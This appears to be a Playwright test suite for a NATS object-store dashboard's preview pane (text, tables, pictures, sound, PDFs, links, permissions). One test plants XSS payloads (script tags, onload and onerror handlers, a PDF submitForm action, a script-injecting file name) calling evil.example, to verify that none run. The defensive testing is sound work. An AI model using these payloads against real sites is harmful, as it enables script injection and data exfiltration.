import { Objm, type ObjectStore } from '@nats-io/obj'
import { headers } from '@nats-io/transport-node'
import type { Page } from '@playwright/test'
import { freePorts } from '../scripts/lib/ports.ts'
import { configOf } from '../scripts/nats/config.ts'
import { expect, open, test, type Site } from './fixtures.ts'
import { bucketOf, pane } from './object-utils.ts'
import { pdf, png, wav } from './preview-files.ts'

type Put = { name: string; type?: string; chunk?: number }
async function put(os: ObjectStore, { name, type, chunk }: Put, data: string | Uint8Array) {
  const h = headers()
  if (type) h.set('Content-Type', type)
  await os.putBlob(
    { name, ...(type ? { headers: h } : {}), ...(chunk ? { options: { max_chunk_size: chunk } } : {}) },
    typeof data === 'string' ? new TextEncoder().encode(data) : data,
  )
}

const preview = (page: Page) => page.getByRole('region', { name: 'Preview', exact: true })
const readOf = (page: Page) => preview(page).getByRole('status', { name: 'Read of the object' })

async function look(page: Page, site: Site, bucket: string, name: string) {
  await open(page, site, `/objects/${bucket}?object=${encodeURIComponent(name)}`)
  await expect(pane(page, name)).toBeVisible()
}

/** Another of the same bucket, in the same page. */
async function pick(page: Page, name: string) {
  await page.getByRole('grid', { name: 'Objects' }).getByText(name, { exact: true }).click()
  await expect(pane(page, name)).toBeVisible()
}

/** A server that tells how many bytes it has sent. */
async function counted(own: (options: { config: ReturnType<typeof configOf> }) => Promise<Site>) {
  const [port] = await freePorts(1)
  const site = await own({ config: configOf({ extra: `http: "127.0.0.1:${port}"` }) })
  const sent = async () => {
    const varz = (await (await fetch(`http://127.0.0.1:${port}/varz`)).json()) as { out_bytes: number }
    return varz.out_bytes
  }
  return { site, sent }
}

test('text, JSON and tables are shown by their beginning, and more when it is asked for', async ({ page, site }) => {
  const { name, os } = await bucketOf(site)
  await put(os, { name: 'a.json' }, '{"order":{"id":17,"items":["é","b"]}}')
  await put(os, { name: 'long.txt' }, 'a line of text, é ü\n'.repeat(50_000))
  await put(os, { name: 'empty.txt' }, '')
  await put(os, { name: 'people.csv' }, 'name;city\n"Müller; Anna";Bern\n"says ""hi""";Ulm;extra\n')
  await put(os, { name: 'big.csv' }, `n,square\n${Array.from({ length: 60_000 }, (_, i) => `${i},${i * i}`).join('\n')}\n`)
  await put(os, { name: 'latin.csv' }, Buffer.from('Straße;Ort\nBäckerweg;Köln\n', 'latin1'))
  await put(os, { name: 'wide.txt' }, Buffer.from('\ufeffé ist ein Buchstabe', 'utf16le'))
  await put(os, { name: 'bytes' }, new Uint8Array([0xff, 0, 1, 2, 0x80]))

  await look(page, site, name, 'a.json')
  await expect(preview(page).getByRole('tree', { name: 'Payload' })).toContainText('17')
  await expect(readOf(page)).toHaveText('all 38 B')

  await pick(page, 'long.txt')
  await expect(preview(page)).toContainText('a line of text, é ü')
  await expect(readOf(page)).toHaveText('first 256 KiB of 1.05 MiB')
  await preview(page).getByRole('button', { name: 'Read all' }).click()
  await expect(readOf(page)).toHaveText('all 1.05 MiB')

  await pick(page, 'empty.txt')
  await expect(preview(page)).toContainText('The object is empty')

  await pick(page, 'people.csv')
  const table = preview(page).getByRole('table', { name: 'Table' })
  await expect(table.getByRole('columnheader')).toHaveText(['Row', 'name', 'city', ''])
  await expect(table.getByRole('row').nth(1)).toContainText('Müller; Anna')
  await expect(table.getByRole('row').nth(2)).toContainText('says "hi"')
  await expect(preview(page).getByRole('status', { name: 'About the table' })).toHaveText(
    '2 rows, 3 columns, 1 with more or fewer cells than the first',
  )

  await pick(page, 'big.csv')
  await expect(preview(page).getByRole('status', { name: 'About the table' })).toContainText('rows so far, 2 columns')
  await preview(page).getByRole('button', { name: 'Read all' }).click()
  await expect(preview(page).getByRole('status', { name: 'About the table' })).toHaveText('60,000 rows, 2 columns')
  await table.focus()
  await page.keyboard.press('End')
  await expect(table).toContainText(String(59_999 * 59_999))

  // In other bytes than UTF-8, and how that is known is said.
  await pick(page, 'latin.csv')
  await expect(table.getByRole('columnheader')).toHaveText(['Row', 'Straße', 'Ort'])
  await expect(preview(page).getByRole('note')).toContainText('read as Windows-1252 (Latin-1), which is a guess')
  await pick(page, 'wide.txt')
  await expect(preview(page)).toContainText('é ist ein Buchstabe')
  await expect(preview(page).getByRole('note')).toContainText('Its text is UTF-16')

  await pick(page, 'bytes')
  await expect(preview(page).getByLabel('Payload as hex')).toContainText('ff 00 01 02 80')
  await expect(preview(page)).toContainText('Binary data of a kind that is not known here')
})

test('looking at a large text reads less than 1 MiB, and leaves nothing behind', async ({ page, own }) => {
  const { site, sent } = await counted(own)
  const { name, os } = await bucketOf(site)
  await put(os, { name: 'huge.log' }, Buffer.alloc(8_000_000, 'a line of a log\n'))
  const consumers = async () => (await site.jsm.streams.info(`OBJ_${name}`)).state.consumer_count
  await open(page, site, `/objects/${name}`)
  await expect(page.getByRole('grid', { name: 'Objects' })).toContainText('huge.log')
  const before = await sent()
  await page.getByRole('grid', { name: 'Objects' }).getByText('huge.log').click()
  await expect(readOf(page)).toHaveText('first 256 KiB of 7.63 MiB')
  expect((await sent()) - before).toBeLessThan(1024 * 1024)
  await pane(page, 'huge.log').getByRole('button', { name: 'Close the object' }).click()
  // The one that watches the bucket.
  await expect.poll(consumers).toBe(1)
})

test('pictures are drawn from their bytes, also large ones and icons', async ({ page, site }) => {
  const { name, os } = await bucketOf(site)
  await put(os, { name: 'small' }, png(3, 2))
  await put(os, { name: 'large.png' }, png(1500, 1200))
  await put(os, { name: 'broken.png' }, png(30, 20).subarray(0, 40))
  const segment = Buffer.concat([Buffer.from([0xff, 0xe1, 0xea, 0x60]), Buffer.alloc(59_998)])
  await put(os, { name: 'late.jpg' }, Buffer.concat([Buffer.from([0xff, 0xd8]), ...Array.from({ length: 5 }, () => segment)]))
  const about = preview(page).getByRole('status', { name: 'About the picture' })
  await look(page, site, name, 'small')
  await expect(about).toHaveText('image/png, 3 × 2')
  await pick(page, 'large.png')
  await preview(page).getByRole('button', { name: 'Show the picture, 1.72 MiB' }).click()
  await expect(about).toHaveText('image/png, 1500 × 1200')
  await preview(page).getByText('Actual size').click()
  const width = () =>
    preview(page)
      .getByRole('img')
      .evaluate((i) => i.clientWidth)
  expect(await width()).toBe(1500)
  await pick(page, 'broken.png')
  await expect(about).toContainText('the browser cannot draw it')
  // How large it is lies behind what is read of it.
  await pick(page, 'late.jpg')
  await expect(preview(page)).toContainText('How wide and high it is cannot be told from its beginning')
  await expect(preview(page).getByRole('img')).toHaveCount(0)
  await preview(page).getByRole('button', { name: 'Show the picture, 293 KiB' }).click()
  await expect(about).toContainText('the browser cannot draw it')
})

test('sound is played from anywhere in it without reading all', async ({ page, own }) => {
  const { site, sent } = await counted(own)
  const { name, os } = await bucketOf(site)
  const sound = wav(60) // 11 MB
  await put(os, { name: 'tone.wav' }, sound)
  await put(os, { name: 'short.wav' }, wav(7))
  await put(os, { name: 'broken.wav' }, Buffer.concat([Buffer.from('RIFF\0\0\0\0WAVE'), Buffer.alloc(5000, 1)]))
  await look(page, site, name, 'tone.wav')
  const before = await sent()
  const answer = page.waitForResponse(/\/preview\/.*\/media$/)
  await preview(page).getByRole('button', { name: 'Open the player' }).click()
  expect((await answer).status()).toBe(206)
  expect(await (await answer).allHeaders()).toMatchObject({
    'content-type': 'audio/wav',
    'content-range': `bytes 0-${sound.length - 1}/${sound.length}`,
    'content-security-policy': "default-src 'none'; sandbox",
    'x-content-type-options': 'nosniff',
  })
  const player = page.frameLocator('iframe[title="Player of tone.wav"]').locator('audio')
  const state = () => player.evaluate((a: HTMLAudioElement) => ({ at: a.currentTime, length: a.duration }))
  await expect.poll(async () => Math.round((await state()).length)).toBe(60)
  await player.evaluate(async (a: HTMLAudioElement) => {
    a.muted = true
    a.currentTime = 50
    await a.play()
  })
  await expect.poll(async () => (await state()).at).toBeGreaterThan(50.3)
  expect((await sent()) - before).toBeLessThan(sound.length / 2)
  await expect(preview(page).getByRole('status', { name: 'Read by the player' })).toContainText('of 10.1 MiB read so far')
  await page.getByRole('button', { name: 'Close the object' }).click()
  await expect.poll(async () => (await site.jsm.streams.info(`OBJ_${name}`)).state.consumer_count).toBe(1)

  await pick(page, 'broken.wav')
  await preview(page).getByRole('button', { name: 'Open the player' }).click()
  await expect(preview(page).getByRole('alert')).toContainText('The browser cannot play it')

  // Where there can be no service worker.
  await page.addInitScript(() => Reflect.deleteProperty(Navigator.prototype, 'serviceWorker'))
  await look(page, site, name, 'short.wav')
  await preview(page).getByRole('button', { name: 'Open the player' }).click()
  const whole = preview(page).getByLabel('Player of short.wav')
  await expect.poll(() => whole.evaluate((a: HTMLAudioElement) => Math.round(a.duration))).toBe(7)
})

test('the pages of a PDF are drawn, reading what they need', async ({ page, own }) => {
  const { site, sent } = await counted(own)
  const { name, os } = await bucketOf(site)
  await put(os, { name: 'small.pdf' }, pdf(['One', 'Two']))
  await put(os, { name: 'large.pdf' }, pdf(['First', 'Second', 'Third'], { padding: 4_000_000 }))
  await put(os, { name: 'broken.pdf' }, '%PDF-1.4\nnothing of the kind')
  const pages = preview(page).getByRole('status', { name: 'Pages' })
  const ink = () =>
    preview(page)
      .locator('canvas')
      .evaluate((c: HTMLCanvasElement) => {
        const { data } = c.getContext('2d')!.getImageData(0, 0, c.width, c.height)
        let dark = 0
        for (let i = 0; i < data.length; i += 4) if (data[i]! < 128) dark++
        return dark
      })
  await look(page, site, name, 'small.pdf')
  await expect(pages).toHaveText('page 1 of 2')
  expect(await ink()).toBeGreaterThan(1000)
  await preview(page).getByRole('button', { name: 'Next page' }).click()
  await expect(pages).toHaveText('page 2 of 2')

  await pick(page, 'large.pdf')
  const before = await sent()
  await preview(page).getByRole('button', { name: 'Show the pages' }).click()
  await expect(pages).toHaveText('page 1 of 3')
  expect(await ink()).toBeGreaterThan(1000)
  expect((await sent()) - before).toBeLessThan(2_000_000)

  await pick(page, 'broken.pdf')
  await expect(preview(page).getByRole('alert')).toContainText('The document cannot be drawn')
})

/** Everything that a page, its workers and its frames ask for, other than of the dashboard itself. */
function askedOutside(page: Page, site: Site): string[] {
  const asked: string[] = []
  page.context().on('request', (request) => {
    const { origin, protocol } = new URL(request.url())
    if (origin !== new URL(site.web.url).origin && !['blob:', 'data:', 'ws:'].includes(protocol)) asked.push(request.url())
  })
  return asked
}

test('what is in an object runs nothing and asks for nothing', async ({ page, site }) => {
  const { name, os } = await bucketOf(site)
  const attack = `window.attacked = 1; top.attacked = 1; parent.attacked = 1; fetch('https://evil.example/run')`
  const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
    width="40" height="30" onload="${attack}"><script>${attack}</script><script href="https://evil.example/a.js"/>
    <image href="https://evil.example/a.png" width="9" height="9"/><use xlink:href="https://evil.example/b.svg#x"/>
    <style>@import 'https://evil.example/c.css'; rect { fill: url(https://evil.example/d.svg#x) }</style><rect width="9" height="9"/>
    <foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${attack}"/>
    <iframe src="https://evil.example/e"></iframe></body></foreignObject></svg>`
  const html = `<!doctype html><script>${attack}</script><img src="https://evil.example/f.png" onerror="${attack}">`
  await put(os, { name: 'bad.svg', type: 'image/svg+xml' }, svg)
  await put(os, { name: 'bad.html', type: 'text/html' }, html)
  await put(os, { name: 'photo.png', type: 'image/png' }, html)
  await put(os, { name: 'song.mp3', type: 'audio/mpeg' }, html)
  const title = '"><script>top.attacked=1</script>.wav'
  await put(os, { name: title }, wav(2))
  await put(os, { name: 'bad.pdf' }, pdf(['Bad'], { action: 'app.alert(1); this.submitForm("https://evil.example/g")' }))
  const outside = askedOutside(page, site)
  const attacked = async () => {
    for (const frame of page.frames()) expect(await frame.evaluate(() => Reflect.get(window, 'attacked'))).toBeUndefined()
    expect(outside).toEqual([])
  }
  page.on('dialog', (dialog) => outside.push(`dialog: ${dialog.message()}`))

  await look(page, site, name, 'bad.svg')
  await expect(preview(page)).toContainText('foreignObject')
  await expect(preview(page).getByText('SVG picture')).toBeVisible()
  await preview(page).getByText('Picture', { exact: true }).click()
  await expect(preview(page).getByRole('status', { name: 'About the picture' })).toHaveText('image/svg+xml, 40 × 30')
  await attacked()

  await pick(page, 'bad.html')
  await expect(preview(page)).toContainText('<!doctype html>')
  await attacked()

  for (const [object, says] of [
    ['photo.png', 'Its Content-Type is image/png, but its bytes are HTML: it is shown as that.'],
    ['song.mp3', 'Its Content-Type is audio/mpeg, but its bytes are HTML: it is shown as that.'],
  ] as const) {
    await pick(page, object)
    await expect(preview(page).getByRole('note')).toHaveText(says)
    await expect(preview(page)).toContainText('<!doctype html>')
    await expect(preview(page).getByRole('img')).toHaveCount(0)
    await attacked()
  }

  await pick(page, 'bad.pdf')
  await expect(preview(page).getByRole('status', { name: 'Pages' })).toHaveText('page 1 of 1')
  // Its link covers the whole page.
  await preview(page).locator('canvas').click()
  await attacked()
  expect(page.context().pages()).toHaveLength(1)

  // The name is part of the player's page.
  await look(page, site, name, title)
  const answer = page.waitForResponse(/\/preview\/[^/]+\/$/)
  await preview(page).getByRole('button', { name: 'Open the player' }).click()
  expect((await (await answer).allHeaders())['content-security-policy']).toBe(
    "default-src 'none'; media-src 'self'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'",
  )
  const frame = preview(page).locator('iframe').contentFrame()
  await expect(frame.locator('audio')).toHaveAttribute('aria-label', title)
  await expect(frame.locator('script')).toHaveCount(0)
  await frame.locator('audio').evaluate(async (a: HTMLAudioElement) => {
    a.muted = true
    await a.play()
  })
  await expect.poll(() => frame.locator('audio').evaluate((a: HTMLAudioElement) => a.currentTime)).toBeGreaterThan(0)
  await attacked()
})

test('links, damaged, deleted and replaced objects say what they are', async ({ page, site }) => {
  const { name, os } = await bucketOf(site)
  const other = await bucketOf(site)
  await put(other.os, { name: 'target' }, 'what is led to')
  await os.link('link', (await other.os.info('target'))!)
  await put(os, { name: 'gone' }, 'x')
  await os.link('dangling', (await os.info('gone'))!)
  await os.delete('gone')
  await os.linkStore('whole', other.os)
  // The client refuses to make one.
  const round = (from: string, to: string) => ({
    name: from,
    bucket: name,
    nuid: '',
    size: 0,
    chunks: 0,
    options: { link: { bucket: name, name: to } },
  })
  for (const [from, to] of [
    ['round', 'about'],
    ['about', 'round'],
  ] as const)
    await site.js.publish(`$O.${name}.M.${Buffer.from(from).toString('base64')}`, JSON.stringify(round(from, to)))
  await put(os, { name: 'bad.txt', chunk: 1000 }, 'a line\n'.repeat(100_000))
  await put(os, { name: 'all gone' }, 'a line\n'.repeat(100))
  const chunks = async (object: string) => `$O.${name}.C.${(await os.info(object))!.nuid}`
  await site.jsm.streams.purge(`OBJ_${name}`, { filter: await chunks('bad.txt'), keep: 699 })
  await site.jsm.streams.purge(`OBJ_${name}`, { filter: await chunks('all gone') })

  await look(page, site, name, 'link')
  await expect(preview(page)).toContainText(`A link: this is target in the bucket ${other.name}.`)
  await expect(preview(page)).toContainText('what is led to')
  for (const [object, says] of [
    ['dangling', `The link dangling leads to gone in the bucket ${name}, which is not there`],
    ['whole', `whole is a link to the bucket ${other.name}, not to an object`],
    ['round', 'leads in a circle'],
    ['bad.txt', 'bad.txt is damaged: 699 of its 700 chunks are there'],
    ['all gone', 'all gone is damaged: 0 of its 1 chunks are there'],
  ] as const) {
    await pick(page, object)
    await expect(preview(page).getByRole('alert')).toContainText(says)
  }
  await open(page, site, `/objects/${name}?object=gone&deleted=true`)
  await expect(pane(page, 'gone')).toContainText('This object is deleted')
  await expect(preview(page)).toHaveCount(0)

  await pick(page, 'all gone')
  await put(os, { name: 'all gone' }, 'it is back')
  await expect(preview(page)).toContainText('it is back')
})

test('missing rights are said', async ({ page, own }) => {
  const site = await own({
    config: configOf({
      extra: `authorization { users: [ { user: all, password: x }
        { user: some, password: x, permissions: { publish: { deny: ["$JS.API.DIRECT.GET.>",
          "$JS.API.CONSUMER.MSG.NEXT.>", "$JS.API.STREAM.MSG.GET.>"] } } } ] }`,
    }),
    user: { user: 'all', pass: 'x' },
    preset: { auth: 'password', user: 'some' },
  })
  const os = await new Objm(site.js).create('rights')
  await put(os, { name: 'a.txt' }, 'nobody sees this')
  await page.goto(`${site.web.url}/objects/rights?object=a.txt`)
  await page.getByRole('textbox', { name: 'Password' }).fill('x')
  await page.getByRole('button', { name: 'Connect', exact: true }).first().click()
  await expect(preview(page).getByRole('alert')).toContainText('Permission to publish')
})
